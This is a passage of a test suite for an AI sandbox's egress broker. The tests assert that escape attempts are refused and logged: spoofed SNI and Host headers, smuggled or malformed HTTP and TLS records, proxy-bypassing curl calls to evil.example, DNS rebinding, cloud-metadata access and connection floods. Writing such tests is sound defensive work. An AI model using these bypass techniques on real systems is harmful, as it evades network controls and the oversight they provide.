    assert.ok(out.libc.result?.startsWith('gai:'), `row 11: getaddrinfo: ${JSON.stringify(out.libc)}`);
    await recorded(A, eg, [{ kind: 'dns', name: 'meta.test', allowed: false, reason: R.metadata }], 'row 11');
  });

  test('row 12: a permitted name resolving to 0.0.0.0', T, async () => {
    const { out, eg } = await refused('row 12', () => py(A, 'out(**dns("zero.test", server="127.0.0.1"))'));
    assert.equal(out.rcode, 3, `row 12: ${JSON.stringify(out)}`);
    await recorded(A, eg, [{ kind: 'dns', name: 'zero.test', allowed: false, reason: R.unspecified }], 'row 12');
  });

  test('row 14: TLS to good.test with SNI evil.example', T, async () => {
    const { https: S } = host.ports;
    const { out, eg } = await refused('row 14', () => py(A, `out(**tls("good.test", ${S}, "evil.example"))`));
    assertReset(out, 'row 14');
    await recorded(A, eg, [{ kind: 'connect', host: 'good.test', port: S, allowed: false, reason: R.sni }], 'row 14');
    noneAdmitted(eg, 'row 14');
  });

  test('row 15: HTTP to good.test with Host: evil.example', T, async () => {
    const { http: H } = host.ports;
    const { out, eg } = await refused('row 15', () => py(A, `out(**tcp("good.test", ${H}, b"GET / HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n"))`));
    assertReset(out, 'row 15');
    await recorded(A, eg, [{ kind: 'connect', host: 'good.test', port: H, allowed: false, reason: R.host }], 'row 15');
    noneAdmitted(eg, 'row 15');
  });

  test('row 16: malformed HTTP: two Host headers, a folded Host, an absolute target naming another host', T, async () => {
    const { http: H } = host.ports;
    const g = `good.test:${H}`;
    const code = `
reqs = [b"GET / HTTP/1.1\\r\\nHost: ${g}\\r\\nHost: ${g}\\r\\n\\r\\n",
        b"GET / HTTP/1.1\\r\\nHost: ${g}\\r\\n evil.example\\r\\n\\r\\n",
        b"GET http://evil.example/ HTTP/1.1\\r\\nHost: ${g}\\r\\n\\r\\n"]
out(r=[tcp("good.test", ${H}, q) for q in reqs])`;
    const { out, eg } = await refused('row 16', () => py(A, code));
    out.r.forEach((o, i) => assertReset(o, `row 16 [${i}]`));
    const bad = eg.denied.filter((e) => matches(e, { kind: 'connect', host: 'good.test', port: H, reason: R.malformedHttp }));
    assert.equal(bad.length, 3, `row 16: three "malformed HTTP request" refusals expected: ${brief(eg)}`);
    await recorded(A, eg, [{ kind: 'connect', host: 'good.test', port: H, allowed: false, reason: R.malformedHttp }], 'row 16');
    noneAdmitted(eg, 'row 16');
  });

  test('row 17: a permitted host on a port no rule names', T, async () => {
    const { canary: K } = host.ports;
    const { out, eg } = await refused('row 17', () => py(A, `out(**tcp("good.test", ${K}, b"GET / HTTP/1.0\\r\\nHost: good.test\\r\\n\\r\\n"))`));
    assertReset(out, 'row 17');
    await recorded(A, eg, [{ kind: 'connect', host: 'good.test', port: K, allowed: false, reason: R.port }], 'row 17');
    noneAdmitted(eg, 'row 17');
  });

  // ------------------------------------------------------------ the peek fails closed
  // Bytes that could start an HTTP request are parsed completely and
  // checked, or refused (docs/egress-design.md (c)).  Each row is tried on
  // the front end's port (a port a rule names, like 8080) and on port 80.

  /* A refusal row against the front ends: none of their sites nor any of
   * the host's servers saw anything. */
  async function frontRefused(what, body) {
    const before = [front.seen(), frontEvil.seen()];
    const res = await refused(what, body);
    assert.deepEqual([front.seen(), frontEvil.seen()], before, `${what}: a front end served something (before, after)`);
    return res;
  }

  /* Sends each payload of REQS to good.test on each port of PORTS; every
   * attempt is reset and recorded as denied with WHY[i]. */
  async function peekRow(what, ports, reqs, why) {
    const code = `
reqs = [${reqs.map((q) => `b"${q}"`).join(', ')}]
out(r=[[tcp("good.test", p, q) for q in reqs] for p in [${ports.join(', ')}]])`;
    const { out, eg } = await frontRefused(what, () => py(A, code));
    out.r.forEach((row, i) => row.forEach((o, j) => assertReset(o, `${what} [port ${ports[i]}, request ${j}]`)));
    for (const p of ports) {
      for (const w of new Set(why)) {
        const n = why.filter((x) => x === w).length;
        const got = eg.denied.filter((e) => matches(e, { kind: 'connect', host: 'good.test', port: p, reason: w }));
        assert.equal(got.length, n, `${what}: ${n} "${w}" refusals expected on port ${p}: ${brief(eg)}`);
      }
      await recorded(A, eg, why.map((w) => ({ kind: 'connect', host: 'good.test', port: p, allowed: false, reason: w })), `${what} (port ${p})`);
    }
    noneAdmitted(eg, what);
  }

  test('positive: the front end serves good.test to the sandbox, by name and with Host naming the port connected to', { ...T, skip: NGINX_SKIP }, async () => {
    const F = front.port;
    const before = front.seen();
    const r = await call(P.client, 'run', { session_id: A.sid, command: `curl -sS --max-time 20 http://good.test:${F}/` });
    assert.equal(r.exit_code, 0, r.stderr);
    assert.equal(r.stdout, 'good site\n');
    const { out, eg } = await py(A, `out(**tcp("good.test", ${F}, b"GET / HTTP/1.1\\r\\nHost: good.test:${F}\\r\\nConnection: close\\r\\n\\r\\n"))`);
    assert.equal(out.result, 'data', JSON.stringify(out));
    assert.match(out.data, /good site/);
    assert.deepEqual(front.seen(), { good: before.good + 2, evil: before.evil }, 'the front end: two requests for good.test, none for evil.test');
    await recorded(A, eg, [{ kind: 'connect', host: 'good.test', port: F, allowed: true }], 'front end');
  });

  test('row 30: an absolute-form target of any scheme naming another host (GET xyz://evil.test/, Host: good.test)', { ...T, skip: NGINX_SKIP }, async () => {
    const F = front.port;
    await peekRow('row 30', [F, 80], [
      `GET xyz://evil.test/ HTTP/1.1\\r\\nHost: good.test:${F}\\r\\n\\r\\n`,
      'GET a+b-c.d://evil.test/ HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n',
    ], [R.malformedHttp, R.malformedHttp]);
  });

  test('row 31: empty lines before the request line (\\r\\nGET / ... Host: evil.test)', { ...T, skip: NGINX_SKIP }, async () => {
    await peekRow('row 31', [front.port, 80], [
      '\\r\\nGET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n',
      '\\n\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n',
    ], [R.host, R.host]);
  });

  test('row 32: a lowercase method, and a method longer than 16 characters, with Host: evil.test', { ...T, skip: NGINX_SKIP }, async () => {
    await peekRow('row 32', [front.port, 80], [
      'get / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n',
      'ABCDEFGHIJKLMNOPQRSTUVWXYZ / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n',
    ], [R.host, R.host]);
  });

  test('row 33: a request line that is cut or unusual: HTTP/0.9 (GET /), a tab for the space, HTTP/1.2', { ...T, skip: NGINX_SKIP }, async () => {
    await peekRow('row 33', [front.port, 80], [
      'GET /\\r\\n',
      'GET\\t/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n',
      'GET / HTTP/1.2\\r\\nHost: evil.test\\r\\n\\r\\n',
    ], [R.malformedHttp, R.malformedHttp, R.malformedHttp]);
  });

  test('row 34: a port in Host, or in the target, other than the port connected to', { ...T, skip: NGINX_SKIP }, async () => {
    await peekRow('row 34', [front.port, 80], [
      'GET / HTTP/1.1\\r\\nHost: good.test:8443\\r\\n\\r\\n',
      'GET http://good.test:8443/ HTTP/1.1\\r\\n\\r\\n',
    ], [R.hostPort, R.hostPort]);
  });

  test('row 35: a server that speaks first: its client\'s commands go up (SMTP EHLO, an SSH identification with comments)', T, async () => {
    const G = greet.port;
    const code = `
def talk(first):
    s = socket.create_connection(("good.test", ${G}), timeout=15)
    try:
        got = b""
        if not first:
            got = s.recv(100)
        s.sendall(b"EHLO client.example\\r\\n" if not first else b"SSH-2.0-OpenSSH_9.6p1 Debian-3ubuntu13.5\\r\\n")
        while got.count(b"\\r\\n") < 2:
            d = s.recv(100)
            if not d:
                break
            got += d
        return got.decode("latin1")
    except Exception as e:
        return kind(e)
    finally:
        s.close()
out(smtp=talk(False), ssh=talk(True))`;
    const { out, eg } = await py(A, code);
    assert.equal(out.smtp, '220 good.test ESMTP\r\nEHLO client.example\r\n', JSON.stringify(out));
    assert.equal(out.ssh, '220 good.test ESMTP\r\nSSH-2.0-OpenSSH_9.6p1 Debian-3ubuntu13.5\r\n', JSON.stringify(out));
    assert.equal(greet.cnt.conns >= 2, true);
    await recorded(A, eg, [{ kind: 'connect', host: 'good.test', port: G, allowed: true }], 'row 35');
  });

  test('row 36: an HTTP request naming no host (no Host, no absolute target), to front ends whose default site is good.test, and evil.test', { ...T, skip: NGINX_SKIP }, async () => {
    // What the row keeps from the sandbox: from the host, the front end
    // whose default is evil.test serves it such a request.
    const before = frontEvil.seen();
    const direct = await new Promise((resolve, reject) => {
      let got = '';
      const c = net.connect(frontEvil.port, '127.0.0.1', () => c.write('GET / HTTP/1.0\r\n\r\n'));
      c.on('data', (d) => { got += d.toString('latin1'); });
      c.on('end', () => resolve(got));
      c.on('error', reject);
    });
    assert.match(direct, /evil site/, `row 36: the evil.test front end, asked from the host: ${direct}`);
    assert.deepEqual(frontEvil.seen(), { good: before.good, evil: before.evil + 1 });
    await peekRow('row 36', [front.port, frontEvil.port, 80, 443], [
      'GET / HTTP/1.0\\r\\n\\r\\n',
      '\\r\\nGET / HTTP/1.1\\r\\nAccept: */*\\r\\n\\r\\n',
      'OPTIONS * HTTP/1.1\\r\\n\\r\\n',
    ], [R.noHost, R.noHost, R.noHost]);
  });

  test('row 37: TLS records a server may take before or as its ClientHello: a warning alert first, another record version', { ...T, skip: NGINX_SKIP }, async () => {
    // Go's crypto/tls (Caddy, Traefik) drops warning alerts sent before the
    // ClientHello and takes any record version below 0x1000 there: on a
    // port other than 443 these bytes passed as neither TLS nor HTTP, and
    // such a front end served the site the SNI names.
    const alert = (v) => [21, v >> 8, v & 0xff, 0, 2, 1, 90];
    const esc = (bytes) => bytes.map((b) => `\\x${b.toString(16).padStart(2, '0')}`).join('');
    await peekRow('row 37', [front.port, 443], [
      esc([...alert(0x0303), ...clientHello('evil.test', 0x0301)]),
      esc([...alert(0x0001), ...clientHello('good.test', 0x0301)]),
      esc([20, 3, 3, 0, 1, 1, ...clientHello('good.test', 0x0301)]),
      esc(clientHello('evil.test', 0x0103)),
    ], [R.malformedTls, R.malformedTls, R.malformedTls, R.sni]);
  });

  test('row 38: after a HelloRetryRequest, a second ClientHello naming another host is cut; one naming the host goes up', T, async () => {
    // Only the first ClientHello was peeked: nginx 1.22 picks its site by
    // the second one's SNI, and served evil.test's certificate and site.
    const R_ = retry.port;
    const hex = (b) => Buffer.from(b).toString('hex');
    const ccs = [20, 3, 3, 0, 1, 1];
    const code = `
import binascii
def retry(ch1, rest):
    s = socket.create_connection(("good.test", ${R_}), timeout=15)
    try:
        s.sendall(binascii.unhexlify(ch1))
        got = s.recv(100)
    except Exception as e:
        return {"hrr": None, "after": kind(e)}
    try:
        s.sendall(binascii.unhexlify(rest))
        time.sleep(1)
        s.sendall(b"more")
        s.settimeout(3)
        d = s.recv(10)
        return {"hrr": got[11:43].hex(), "after": "data" if d else "eof"}
    except Exception as e:
        return {"hrr": got[11:43].hex(), "after": kind(e)}
    finally:
        s.close()
out(evil=retry("${hex(clientHello('good.test', 0x0303))}", "${hex([...ccs, ...clientHello('evil.test', 0x0303)])}"),
    good=retry("${hex(clientHello('good.test', 0x0303))}", "${hex([...ccs, ...clientHello('good.test', 0x0303)])}"))`;
    const before = retry.cnt.got.length;
    const { out, eg } = await py(A, `import time\n${code}`);
    const [evil, good] = retry.cnt.got.slice(before);
    const ch1 = Buffer.from(clientHello('good.test', 0x0303));
    assert.equal(out.evil.hrr, HRR_RANDOM, `row 38: no HelloRetryRequest came back: ${JSON.stringify(out)}`);
    assert.ok(RESET.includes(out.evil.after), `row 38: the connection whose second ClientHello names evil.test went on: ${JSON.stringify(out)}`);
    assert.deepEqual(evil, ch1, 'row 38: the server got more than the first ClientHello');
    assert.equal(good.length, ch1.length + ccs.length + ch1.length + 4, 'row 38: the second ClientHello naming good.test (and what followed) did not go up');
    await recorded(A, eg, [{ kind: 'connect', host: 'good.test', port: R_, reason: R.sni, sni: 'evil.test' }], 'row 38');
  });

  test('row 18: programs that ignore or unset the proxy variables (curl)', T, async () => {
    const { http: H } = host.ports;
    const cmd = 'curl -sS --max-time 10 --noproxy "*" http://evil.example/; echo "rc=$?"; ' +
      'env -u http_proxy -u https_proxy -u HTTP_PROXY -u HTTPS_PROXY curl -sS --max-time 10 https://evil2.example/; echo "rc=$?"';
    const r = await refused('row 18', () => call(P.client, 'run', {
      session_id: A.sid, command: cmd, env: { http_proxy: `http://good.test:${H}`, https_proxy: `http://good.test:${H}` },
    }));
    assert.deepEqual(r.stdout.match(/rc=\d+/g), ['rc=6', 'rc=6'], `row 18: curl should fail to resolve: ${r.stdout} ${r.stderr}`);
    await recorded(A, r.egress, [
      { kind: 'dns', name: 'evil.example', allowed: false, reason: R.notAllowed },
      { kind: 'dns', name: 'evil2.example', allowed: false, reason: R.notAllowed },
    ], 'row 18');
    noneAdmitted(r.egress, 'row 18');
  });

  test('row 19: a static resolver client asking 9.9.9.9 directly', T, async () => {
    const { out, eg } = await refused('row 19', () => py(A, 'out(bad=dns("evil3.example", server="9.9.9.9"), good=dns("good.test", server="9.9.9.9"))'));
    assert.equal(out.bad.rcode, 3, `row 19: ${JSON.stringify(out)}`);
    // The "outside" resolver's answer for a permitted name is the broker's.
    assert.equal(out.good.rcode, 0, `row 19: ${JSON.stringify(out)}`);
    assert.match(out.good.addrs[0] ?? '', /^198\.(18|19)\./);
    await recorded(A, eg, [{ kind: 'dns', name: 'evil3.example', allowed: false, reason: R.notAllowed }], 'row 19');
  });

  /* refused_packets: the nft counters, read at the end of a run and for
   * network_log (docs/egress-design.md (e)); in whichever list carries it,
   * or in the JSON Lines log. */
  async function refusedPackets(sess, eg) {
    const log = await call(sess.c, 'network_log', { session_id: sess.sid });
    const inRun = events(eg).filter((e) => e.kind === 'refused_packets');
    const inLog = events(log).filter((e) => e.kind === 'refused_packets');
    const p = sess.open.egress.egress_log_path;
    const inFile = fs.existsSync(p) ? fs.readFileSync(p, 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l)).filter((e) => e.kind === 'refused_packets') : [];
    return { inRun, inLog, inFile, all: [...inRun, ...inLog, ...inFile] };
  }

  /* Rows 20 and 21 keep what they ran for their record rows below. */
  let row20 = null;
  let row21 = null;

  test('row 20: UDP to 8.8.8.8:123: EPERM at send', T, async () => {
    const { out, eg } = await refused('row 20', () => py(A, `out(a=udp_send("8.8.8.8", 123), b=udp_send("127.0.0.1", ${host.ports.udp}))`));
    assert.equal(out.a.result, 'EPERM', `row 20: ${JSON.stringify(out)}`);
    // The host's UDP canary port on the sandbox's own loopback: nothing
    // there, nothing reaches the host's.
    assert.ok(['sent', 'ECONNREFUSED'].includes(out.b.result), `row 20 (loopback): ${JSON.stringify(out.b)}`);
    noneAdmitted(eg, 'row 20');
    row20 = eg;
  });

  test('row 21: ICMP echo to 8.8.8.8', T, async () => {
    const { out, eg } = await refused('row 21', () => py(A, 'out(**icmp_echo("8.8.8.8"))'));
    if (IS_NS) {
      // No capability in the sandbox: no raw socket; a fresh network
      // namespace's ping_group_range admits no group.
      assert.deepEqual([out.raw.stage, out.raw.result], ['socket', 'EPERM'], `row 21 raw: ${JSON.stringify(out)}`);
      assert.deepEqual([out.ping.stage, out.ping.result], ['socket', 'EACCES'], `row 21 ping: ${JSON.stringify(out)}`);
    } else {
      // Root in the guest opens a raw socket; the rules refuse the packet.
      assert.deepEqual([out.raw.stage, out.raw.result], ['send', 'EPERM'], `row 21 raw: ${JSON.stringify(out)}`);
    }
    noneAdmitted(eg, 'row 21');
    row21 = eg;
  });

  test('rows 20 and 21, the record: refused_packets counts the UDP (and on vm the ICMP) packets', T, async () => {
    assert.ok(row20 && row21, 'rows 20 and 21 did not run');
    const rp = await refusedPackets(A, row21);
    const also = events(row20).filter((e) => e.kind === 'refused_packets');
    const all = [...rp.all, ...also];
    assert.ok(all.some((e) => e.udp >= 1), `row 20: no refused_packets event with udp >= 1 in the runs' egress, network_log or the log (docs/egress-design.md (e)): ${JSON.stringify(rp)}`);
    if (IS_VM) assert.ok(all.some((e) => e.icmp >= 1 || e.other >= 1), `row 21: no refused_packets event counting the ICMP: ${JSON.stringify(rp)}`);
  });

  test('row 22: a direct connect to the agent\'s own listener (127.0.0.1:15001, [::1]:15001)', T, async () => {
    const { out, eg } = await refused('row 22', () => py(A, 'out(v4=tcp("127.0.0.1", 15001, b"GET / HTTP/1.0\\r\\nHost: good.test\\r\\n\\r\\n"), v6=tcp("::1", 15001))'));
    assertReset(out.v4, 'row 22 v4');
    assertReset(out.v6, 'row 22 v6');
    // "not redirected" is the agent's log's: the broker never saw it.
    noneAdmitted(eg, 'row 22');
  });

  test('the host\'s loopback is not the sandbox\'s: 127.0.0.1:<the host server\'s port> reaches nothing', T, async () => {
    const { out, eg } = await refused('loopback', () => py(A, `out(**tcp("127.0.0.1", ${host.ports.http}))`));
    assert.equal(out.result, 'refused', `loopback: ${JSON.stringify(out)}`);
    checkEgress(eg, 'loopback');
    assert.deepEqual(events(eg).filter((e) => e.kind === 'connect'), [], 'loopback: a local connect reached the broker');
  });

  test('a guessed synthetic address that no name was given', T, async () => {
    const { http: H } = host.ports;
    const { out, eg } = await refused('synthetic', () => py(A, `out(**tcp("198.19.255.254", ${H}, b"GET / HTTP/1.0\\r\\nHost: good.test\\r\\n\\r\\n"))`));
    assertReset(out, 'synthetic');
    const [e] = await recorded(A, eg, [{ kind: 'connect', port: H, allowed: false, reason: R.unknown }], 'synthetic');
    noneAdmitted(eg, 'synthetic');
    assertAskedIp(e, '198.19.255.254', 'synthetic');
  });

  test('row 23: 300 connections at once: a cap, and the session\'s other calls stay responsive', { timeout: 600_000 }, async () => {
    const { http: H } = host.ports;
    const code = `
import select
req = b"GET /hold HTTP/1.1\\r\\nHost: good.test:${H}\\r\\n\\r\\n"
socks, res = [], {}
ip = socket.gethostbyname("good.test")
for i in range(300):
    s = socket.socket()
    s.settimeout(10)
    try:
        s.connect((ip, ${H}))
        s.sendall(req)
        s.setblocking(False)
        socks.append(s)
    except Exception as e:
        res[kind(e)] = res.get(kind(e), 0) + 1
        s.close()
print("opened", len(socks), flush=True)
deadline = time.monotonic() + 120
while socks and time.monotonic() < deadline:
    r, _, _ = select.select(socks, [], [], 1)
    for s in r:
        try:
            d = s.recv(4096)
            k = "served" if d.startswith(b"HTTP/1.1 200") else ("eof" if not d else "other")
        except Exception as e:
            k = kind(e)
        res[k] = res.get(k, 0) + 1
        socks.remove(s)
        s.close()
res["left"] = len(socks)
out(**res)`;
    const before = host.seen();
    const storm = py(A, code, { timeout_s: 200 });
    // While the held connections are open, the session's calls answer.
    const heldSome = await waitUntil(() => host.cnt.held.length > 0, { timeoutMs: 60_000 });
    assert.ok(heldSome, 'row 23: no connection reached the host server');
    let last = -1;
    await waitUntil(() => {
      const n = host.cnt.held.length;
      const same = n === last;
      last = n;
      return same;
    }, { timeoutMs: 60_000, intervalMs: 2000 });
    const lat = [];
    for (let i = 0; i < 3; i++) {
      const t0 = Date.now();
      const t = await call(P.client, 'run', { session_id: A.sid, command: 'true' });
      assert.equal(t.exit_code, 0);
      const t1 = Date.now();
      await P.client.ping();
      lat.push([t1 - t0, Date.now() - t1]);
    }
    const held = host.cnt.held.length;
    const limit = IS_VM ? 8000 : 1500;
    for (const [r, p] of lat) assert.ok(r < limit && p < limit, `row 23: run('true') and ping took ${JSON.stringify(lat)} ms while ${held} connections were held`);
    host.release();
    const { out } = await storm;
    const served = out.served ?? 0;
    const resets = (out.reset ?? 0) + (out.refused ?? 0);
    assert.ok(served >= 1 && served <= 64, `row 23: ${served} served, the cap is 64: ${JSON.stringify(out)}`);
    assert.equal(served + resets, 300, `row 23: every connection is either served or reset: ${JSON.stringify(out)} (run latencies ${JSON.stringify(lat)})`);
    assert.ok(host.seen().http - before.http <= 64, `row 23: the host server accepted ${host.seen().http - before.http} connections, over the cap`);
    assert.ok(held <= 64);
    const log = await call(P.client, 'network_log', { session_id: A.sid });
    checkEgress(log, 'row 23');
    // The caps come before the destination is looked at (docs/egress-design.md
    // (d), step 2): the refusal need not name the host.
    assert.ok(log.denied.some((e) => matches(e, { kind: 'connect', port: H, reason: R.tooMany })),
      `row 23: no "too many connections" refusal in network_log: ${brief(log)}`);
    assert.ok(log.truncated, 'row 23: 300 connections fit in network_log\'s lists?');
    process.stdout.write(`# row 23: ${served} served, ${resets} reset; run('true') / ping (ms) while held: ${JSON.stringify(lat)}\n`);
  });

  test('row 24: a download the program does not read: the session answers, bytes_down stays within the windows', T, async () => {
    const { http: H } = host.ports;
    const n = 32 << 20;
    const code = `
import hashlib
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 65536)
s.settimeout(120)
s.connect(("good.test", ${H}))
s.sendall(b"GET /big?n=${n} HTTP/1.0\\r\\nHost: good.test\\r\\n\\r\\n")
open("/tmp/dl-started", "w").close()
time.sleep(8)
h, buf, body = hashlib.sha256(), b"", None
while True:
    d = s.recv(1 << 20)
    if not d:
        break
    if body is None:
        buf += d
        if b"\\r\\n\\r\\n" in buf:
            _, body = buf.split(b"\\r\\n\\r\\n", 1)
            h.update(body)
            body = len(body)
    else:
        h.update(d)
        body += len(d)
out(body=body, sha=h.hexdigest())`;
    const dl = py(A, code, { timeout_s: 200 });
    await sleep(IS_VM ? 4000 : 2500);
    const t0 = Date.now();
    const t = await call(P.client, 'run', { session_id: A.sid, command: 'test -e /tmp/dl-started && echo started' });
    const runMs = Date.now() - t0;
    const t1 = Date.now();
    await P.client.ping();
    const pingMs = Date.now() - t1;
    assert.equal(t.stdout, 'started\n', 'row 24: the download had not started');
    const log = await call(P.client, 'network_log', { session_id: A.sid });
    const open = log.allowed.filter((e) => matches(e, { kind: 'connect', host: 'good.test', port: H })).sort((a, b) => a.ts_ms - b.ts_ms).pop();
    assert.ok(open, `row 24: the open download is not in network_log: ${brief(log)}`);
    // What may be on the way: the agent's window (256 KiB), the broker's
    // stream queue (512 KiB) and the kernel's socket buffers between the
    // agent and the program (the program's is 64 KiB, the agent's send
    // buffer grows to tcp_wmem's 4 MiB): not the 32 MiB the server offers.
    assert.ok(open.bytes_down <= 6 << 20, `row 24: ${open.bytes_down} bytes came down to a program that reads nothing`);
    const limit = IS_VM ? 8000 : 1500;
    assert.ok(runMs < limit && pingMs < limit, `row 24: run took ${runMs} ms, ping ${pingMs} ms beside a stalled download`);
    const { out } = await dl;
    assert.equal(out.body, n, `row 24: the program read ${out.body} of ${n} bytes`);
    assert.equal(out.sha, expectedSha(n), 'row 24: the bytes came through changed');
    // The connection's event went out with the run beside it (a run's
    // egress holds what happened since the session's previous run): the
    // finished stream's bytes are in network_log.
    let fin = null;
    await waitUntil(async () => {
      const l = await call(P.client, 'network_log', { session_id: A.sid });
      fin = l.allowed.find((e) => e.ts_ms === open.ts_ms && e.port === H);
      return fin && fin.bytes_down >= n;
    }, { timeoutMs: 5000 });
    assert.ok(fin && fin.bytes_down >= n, `row 24: the record never counted the ${n} bytes down: ${JSON.stringify(fin)}`);
    assert.ok(fin.bytes_up >= 40 && fin.duration_ms >= 5000, `row 24: ${JSON.stringify(fin)}`);
    process.stdout.write(`# row 24: while stalled: ${open.bytes_down} bytes down, run ${runMs} ms, ping ${pingMs} ms\n`);
  });

  test('sandbox_run carries egress too', T, async () => {
    const { http: H } = host.ports;
    const before = host.seen();
    const r = await call(P.client, 'sandbox_run', {
      command: `curl -sS --max-time 20 http://good.test:${H}/hello; curl -sS --max-time 10 http://evil.example/ ; true`,
      network: 'allow', allow_hosts: [`good.test:${H}`],
    });
    assert.equal(r.stdout, 'hello from the host\n', r.stderr);
    assert.equal(host.seen().http, before.http + 1);
    checkEgress(r.egress, 'sandbox_run');
    assert.ok(r.egress.allowed.some((e) => matches(e, { kind: 'connect', host: 'good.test', port: H })), brief(r.egress));
    assert.ok(r.egress.dns_queries.some((e) => matches(e, { name: 'evil.example', allowed: false, reason: R.notAllowed })), brief(r.egress));
  });

  test('row 28: network "none": a name and a raw address, refused and recorded', T, async () => {
    N = await openEgress(P.client, {}, 'session N');
    assert.equal(N.open.egress.mode, 'none');
    const { out, eg } = await refused('row 28', () => py(N, `out(d=dns("good.test", server="127.0.0.1"), t=tcp("${RAW4}", 443))`));
    assert.equal(out.d.rcode, 3, `row 28: ${JSON.stringify(out)}`);
    assertReset(out.t, 'row 28');
    const [, c] = await recorded(N, eg, [
      { kind: 'dns', name: 'good.test', allowed: false, reason: R.none },
      { kind: 'connect', port: 443, allowed: false, reason: R.none },
    ], 'row 28');
    assertAskedIp(c, RAW4, 'row 28');
  });

  test('positive: open mode reaches good.test (IGN_MCP_NET_PRIVATE=host); metadata still refused', T, async () => {
    const { http: H } = host.ports;
    B = await openEgress(P.client, { network: 'open' }, 'session B');
    const before = host.seen();
    const r = await call(P.client, 'run', { session_id: B.sid, command: `curl -sS --max-time 20 http://good.test:${H}/hello` });
    assert.equal(r.stdout, 'hello from the host\n', r.stderr);
    assert.equal(host.seen().http, before.http + 1);
    await recorded(B, r.egress, [{ kind: 'connect', host: 'good.test', port: H, allowed: true, ip: '127.0.0.1' }], 'open mode');
    const { out, eg } = await refused('open: metadata', () => py(B, 'out(d=dns("meta.test", server="127.0.0.1"), t=tcp("169.254.169.254", 80, b"GET / HTTP/1.0\\r\\nHost: 169.254.169.254\\r\\n\\r\\n"))'));
    assert.equal(out.d.rcode, 3);
    assertReset(out.t, 'open: metadata');
    await recorded(B, eg, [
      { kind: 'dns', name: 'meta.test', allowed: false, reason: R.metadata },
      { kind: 'connect', ip: '169.254.169.254', port: 80, allowed: false, reason: R.metadata },
    ], 'open: metadata');
  });

  // ---------------------------------------------------------------- Q: no IGN_MCP_NET_PRIVATE

  test('row 9: a permitted name resolving to 127.0.0.1', T, async () => {
    const { out, eg } = await refused('row 9', () => py(C, 'out(d=dns("loop.test", server="127.0.0.1"), libc=resolve("loop.test"))'));
    assert.equal(out.d.rcode, 3, `row 9: ${JSON.stringify(out)}`);
    assert.ok(out.libc.result?.startsWith('gai:'));
    await recorded(C, eg, [{ kind: 'dns', name: 'loop.test', allowed: false, reason: R.loopback }], 'row 9');
  });

  test('row 10: a permitted name resolving to 10.0.0.5', T, async () => {
    const { out, eg } = await refused('row 10', () => py(C, 'out(**dns("ten.test", server="127.0.0.1"))'));
    assert.equal(out.rcode, 3, `row 10: ${JSON.stringify(out)}`);
    await recorded(C, eg, [{ kind: 'dns', name: 'ten.test', allowed: false, reason: R.private }], 'row 10');
  });

  test('row 13: rebinding: the name moves to 127.0.0.1 between the answer and the connect', T, async () => {
    const { http: H } = host.ports;
    const first = await py(C, 'out(**resolve("rebind.test"))');
    assert.match(first.out.addr ?? '', /^198\.(18|19)\./, `row 13: rebind.test: ${JSON.stringify(first.out)}`);
    await recorded(C, first.eg, [{ kind: 'dns', name: 'rebind.test', allowed: true }], 'row 13 (lookup)');
    fs.writeFileSync(hostsQ, '127.0.0.1 good.test loop.test rebind.test\n10.0.0.5 ten.test\n169.254.169.254 meta.test\n');
    const later = new Date(Date.now() + 5000);
    fs.utimesSync(hostsQ, later, later);
    const { out, eg } = await refused('row 13', () => py(C, `out(**tcp("${first.out.addr}", ${H}, b"GET /hello HTTP/1.0\\r\\nHost: rebind.test\\r\\n\\r\\n"))`));
    assertReset(out, 'row 13');
    await recorded(C, eg, [{ kind: 'connect', host: 'rebind.test', port: H, allowed: false, reason: R.loopback }], 'row 13');
    noneAdmitted(eg, 'row 13');
  });

  test('row 29: open mode: a name resolving to 10.0.0.5 without IGN_MCP_NET_PRIVATE', T, async () => {
    D = await openEgress(Q.client, { network: 'open' }, 'session D');
    const { out, eg } = await refused('row 29', () => py(D, 'out(ten=dns("ten.test", server="127.0.0.1"), loop=dns("loop.test", server="127.0.0.1"), raw=tcp("10.0.0.5", 80))'));
    assert.equal(out.ten.rcode, 3, `row 29: ${JSON.stringify(out)}`);
    assert.equal(out.loop.rcode, 3, `row 29: ${JSON.stringify(out)}`);
    assertReset(out.raw, 'row 29 (raw)');
    await recorded(D, eg, [
      { kind: 'dns', name: 'ten.test', allowed: false, reason: R.private },
      { kind: 'dns', name: 'loop.test', allowed: false, reason: R.loopback },
      { kind: 'connect', ip: '10.0.0.5', port: 80, allowed: false, reason: R.private },
    ], 'row 29');
  });

  test('positive: a real registry: a name lookup and a TLS GET to https://registry.npmjs.org/', T, async (t) => {
    let addrs;
    try {
      addrs = (await dns.lookup('registry.npmjs.org', { all: true, family: 4 })).map((a) => a.address);
    } catch (e) {
      t.skip(`the host cannot resolve registry.npmjs.org (${e.code}): no registry reachable`);
      return;
    }
    const reachable = await new Promise((resolve) => {
      const req = https.get('https://registry.npmjs.org/', { timeout: 10_000 }, (res) => {
        res.resume();
        resolve(res.statusCode < 500);
      });
      req.on('timeout', () => req.destroy(new Error('timeout')));
      req.on('error', () => resolve(false));
    });
    if (!reachable) {
      t.skip('the host itself cannot reach https://registry.npmjs.org/: no registry reachable');
      return;
    }
    const classes = addrs.map(v4Class);
    if (classes.every(Boolean)) {
      // The host reaches it, but only through addresses the broker never
      // connects to: the refusal is what must happen, so check that.
      const { out, eg } = await py(C, 'out(d=dns("registry.npmjs.org", server="127.0.0.1"))');
      assert.equal(out.d.rcode, 3, `registry: ${JSON.stringify(out)}`);
      await recorded(C, eg, [{ kind: 'dns', name: 'registry.npmjs.org', allowed: false, reason: classes[0] }], 'registry');
      t.skip(`registry.npmjs.org resolves here to ${addrs.join(', ')} (${classes.join(', ')}: a gateway of this machine), which the broker refuses by design; the refusal was checked instead of a GET`);
      return;
    }
    const r = await call(Q.client, 'run', {
      session_id: C.sid, timeout_s: 60,
      command: 'getent hosts registry.npmjs.org; curl -sS --max-time 40 -o /dev/null -w "%{http_code}\\n" https://registry.npmjs.org/',
    }, { timeout: 120_000 });
